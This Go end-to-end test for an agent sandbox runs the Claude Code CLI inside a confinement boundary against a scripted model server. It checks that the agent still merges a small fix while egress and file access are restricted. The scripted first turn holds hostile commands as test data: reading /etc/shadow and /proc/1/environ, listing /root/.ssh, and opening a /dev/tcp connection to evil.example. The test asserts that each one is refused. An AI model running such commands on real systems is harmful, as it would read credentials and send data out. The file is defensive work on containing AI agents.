package e2e

import (
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"confine/internal/agent"
	"confine/internal/egress"
	"confine/internal/engine"
	"confine/internal/gitcmd"
)

// claude is the agent CLI at the pinned version; scripts/setup installs it.
func claude(t *testing.T) string {
	t.Helper()
	p := os.Getenv("CONFINE_TEST_CLAUDE")
	if p == "" {
		cache, err := os.UserCacheDir()
		if err != nil {
			t.Fatal(err)
		}
		p = filepath.Join(cache, "confine-dev/npm/node_modules/@anthropic-ai/claude-code-linux-x64/claude")
	}
	real, err := filepath.EvalSymlinks(p)
	if err != nil {
		t.Fatalf("the agent CLI is missing: %v (run scripts/setup, or set CONFINE_TEST_CLAUDE)", err)
	}
	return real
}

// TestRealAgent: Claude Code, whole inside the boundary, takes an issue to a
// merged change. Its model is a scripted server, reached over the egress path as
// a listed name; what else it tries is refused.
func TestRealAgent(t *testing.T) {
	program := claude(t)
	m := newModel(t,
		turn{"First a look around.", "cat /etc/shadow; ls /root/.ssh; (exec 3<>/dev/tcp/evil.example/80 && printf 'GET / HTTP/1.0\\r\\nHost: evil.example\\r\\n\\r\\n' >&3 && head -c 300 <&3); cat /proc/1/environ"},
		turn{"Now the fix.", fix + " && git log --oneline | head -1"},
		turn{"The sum is right now.", ""},
	)
	addr := netip.MustParseAddrPort(m.addr)
	p := newProjectWith(t, nil, map[egress.HostPort]netip.AddrPort{{Host: "model.test", Port: 80}: addr})
	p.o.Config.Egress = egress.Policy{Allow: mustRules(t, "model.test:80"), Quiet: []egress.Rule{mustQuiet(t, "evil.example")}}
	p.o.Config.View.ReadOnly = []string{program}
	p.o.Config.View.Limits.Memory, p.o.Config.View.Limits.Pids = 4<<30, 1000
	p.o.Config.Stages[0].Time = 2 * time.Minute
	p.o.Config.Agent = agent.Command{
		Args: []string{
			program, "-p", "--output-format", "stream-json", "--verbose", "--permission-mode", "dontAsk", "--setting-sources=", "--strict-mcp-config",
			"--no-session-persistence", "--max-turns", "10", "--tools", "Bash,Read,Edit", "--allowedTools", "Bash", "Read", "Edit",
		},
		Env: []string{
			"ANTHROPIC_BASE_URL=http://model.test", "ANTHROPIC_API_KEY=dummy-key", "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1", "CLAUDE_CODE_MAX_RETRIES=0",
		},
	}
	rec, err := p.work(t, engine.UntilMerge)
	if err != nil || rec.State != engine.Merged {
		t.Fatalf("%v: %s %s\n%s", err, rec.State, rec.Reason, p.log)
	}
	repo, err := gitcmd.Open(t.Context(), filepath.Join(p.host.Dir(), "repo.git"))
	if err != nil {
		t.Fatal(err)
	}
	c, err := repo.ReadCommit(t.Context(), rec.Landed, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if sum, err := repo.FileAt(t.Context(), c.Tree, "sum.sh", 1<<10); err != nil || !strings.Contains(string(sum), "$1 + $2") {
		t.Errorf("landed %q, %v", sum, err)
	}
	seen := m.seen()
	for _, want := range []string{"/etc/shadow: No such file", "/root/.ssh", "blocked by egress rule: evil.example:80", "/proc/1/environ: No such file", "The sum is wrong"} {
		if !strings.Contains(seen, want) {
			t.Errorf("the model never saw %q", want)
		}
	}
	if len(m.keys) != 1 || !m.keys["dummy-key"] {
		t.Errorf("keys seen: %v", m.keys)
	}
	for _, x := range rec.Stages[0].Refusals {
		if !strings.HasPrefix(x.Target, "evil.example") {
			t.Errorf("the agent itself tried %s", x.Target)
		}
	}
}

func mustRules(t *testing.T, s string) []egress.Rule {
	t.Helper()
	r, err := egress.ParseRules(s)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func mustQuiet(t *testing.T, s string) egress.Rule {
	t.Helper()
	r, err := egress.ParseDenyRule(s)
	if err != nil {
		t.Fatal(err)
	}
	return r
}
